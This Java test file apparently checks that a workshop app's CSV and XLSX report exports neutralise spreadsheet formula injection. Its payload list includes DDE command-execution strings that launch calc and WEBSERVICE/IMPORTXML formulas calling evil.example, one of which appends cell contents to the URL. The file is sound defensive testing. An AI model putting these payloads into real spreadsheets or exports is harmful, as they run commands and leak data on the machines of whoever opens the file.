package io.waymark.security;

import static io.waymark.session.RoundKind.COMMENT;
import static io.waymark.session.RoundKind.VOTE;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import io.quarkus.test.junit.QuarkusTest;
import io.waymark.support.Guest;
import io.waymark.support.Scenario;
import io.waymark.support.TestWorkshop;
import jakarta.inject.Inject;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.zip.ZipInputStream;
import org.apache.commons.csv.CSVFormat;
import org.jsoup.Jsoup;
import org.jsoup.parser.Parser;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;

/** What people write is never run by the spreadsheet that opens a file of ours. */
@QuarkusTest
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class FormulaTest {
    private static final List<String> FORMULAS = List.of(
            "=1+1",
            "=HYPERLINK(\"https://evil.example\",\"x\")",
            "=cmd|'/C calc'!A0",
            "=WEBSERVICE(\"https://evil.example/\"&A1)",
            "=IMPORTXML(\"https://evil.example\",\"//a\")",
            "+1+cmd|'/C calc'!A0",
            "+49 30 1234",
            "-1+1",
            "-2+3+cmd|'/C calc'!A0",
            "@SUM(1+1)*cmd|'/C calc'!A0",
            "@evil",
            "\t=1+1",
            "\n=1+1",
            "\r\n=1+1",
            "＝1+1",
            "＋1",
            "－1",
            "＠SUM(A1)",
            "=",
            "==1",
            "=\"=1\"",
            "\",=1+1,\"",
            ";=1+1",
            "%0A=1",
            "=DDE(\"cmd\";\"/C calc\";\"x\")",
            "'=1+1",
            "{=1+1}");

    private static final String RUNS = "(?s)[=+\\-@\\t\\r\\n＝＋－＠].*";
    private static final String NUMBER = "[+-]?[0-9.]+( ?%)?";

    @Inject
    Scenario scenario;

    private TestWorkshop room;

    /** Once: comments, proposed wordings, replies, reasons, names and titles. */
    @BeforeEach
    void write() {
        if (room != null) return;
        room = scenario.workshop();
        var lead = room.facilitator();
        send(lead, "PATCH", "/workshops/" + room.id(), Map.of("title", FORMULAS.get(1)));
        var talk = room.open(io.waymark.session.NewRound.of(COMMENT, "=1+1", 600));
        var vote = room.open(io.waymark.session.NewRound.of(VOTE, "@SUM(A1)", 600));
        for (var formula : FORMULAS) {
            var me = room.join();
            send(
                    me,
                    "PATCH",
                    "/workshops/" + room.id() + "/members/mine",
                    Map.of(
                            "name",
                            formula,
                            "organisation",
                            formula,
                            "stakeholderGroup",
                            formula,
                            "expertise",
                            formula));
            send(
                    me,
                    "POST",
                    "/rounds/" + talk.id() + "/comments",
                    Map.of("target", "R1", "kind", "CONCERN", "body", formula));
            send(
                    me,
                    "POST",
                    "/rounds/" + talk.id() + "/comments",
                    Map.of(
                            "target",
                            "R1",
                            "kind",
                            "EDIT",
                            "body",
                            formula,
                            "replacement",
                            formula,
                            "quote",
                            Map.of("exact", "train its staff")));
            send(me, "PUT", "/rounds/" + vote.id() + "/votes/R1", Map.of("choice", "DISAGREE", "reason", formula));
            send(
                    lead,
                    "POST",
                    "/rounds/" + talk.id() + "/comments",
                    Map.of("target", "R1", "kind", "QUESTION", "body", formula, "source", "CHAT", "speaker", formula));
        }
        room.close(talk);
        room.reveal(room.close(vote));
    }

    @Test
    void commaSeparatedReport() throws IOException {
        var text = room.facilitator()
                .get("/workshops/{w}/report?format=csv", room.id())
                .statusCode(200)
                .extract()
                .asString();
        runsNothing(text, FORMULAS.size());
    }

    @Test
    void onesOwnData() throws IOException {
        for (int i = 3; i < 3 + FORMULAS.size(); i++)
            runsNothing(
                    room.participant(i)
                            .browse("/my-data.csv")
                            .statusCode(200)
                            .extract()
                            .asString(),
                    2);
    }

    private static void runsNothing(String csv, int least) throws IOException {
        int guarded = 0;
        for (var row : CSVFormat.RFC4180.parse(new StringReader(csv)))
            for (var cell : row) {
                assertThat(cell.matches(RUNS) && !cell.matches(NUMBER)).as(cell).isFalse();
                if (cell.startsWith("'")) guarded++;
            }
        assertThat(guarded).isGreaterThanOrEqualTo(least > 2 ? least : 0);
    }

    @Test
    void workbook() throws IOException {
        var bytes = room.facilitator()
                .get("/workshops/{w}/report?format=xlsx", room.id())
                .statusCode(200)
                .extract()
                .asByteArray();
        int sheets = 0;
        try (var zip = new ZipInputStream(new ByteArrayInputStream(bytes))) {
            for (var entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
                var xml = Jsoup.parse(new String(zip.readAllBytes(), StandardCharsets.UTF_8), "", Parser.xmlParser());
                assertThat(xml.select("f, definedName:not([name^=_xlnm]), ddeLink, oleObjects, externalReference"))
                        .as(entry.getName())
                        .isEmpty();
                assertThat(xml.select("Relationship[TargetMode=External]"))
                        .as(entry.getName())
                        .isEmpty();
                if (!entry.getName().matches("xl/worksheets/.*\\.xml")) continue;
                sheets++;
                for (var cell : xml.select("c"))
                    assertThat(cell.attr("t")).as(cell.text()).isIn("s", "inlineStr", "n", "");
            }
        }
        assertThat(sheets).isPositive();
    }

    private static void send(Guest guest, String method, String path, Map<String, ?> body) {
        try {
            guest.api()
                    .body(new ObjectMapper().writeValueAsString(body))
                    .request(method, path)
                    .then()
                    .statusCode(org.hamcrest.Matchers.lessThan(300));
        } catch (IOException impossible) {
            throw new IllegalStateException(impossible);
        }
    }
}
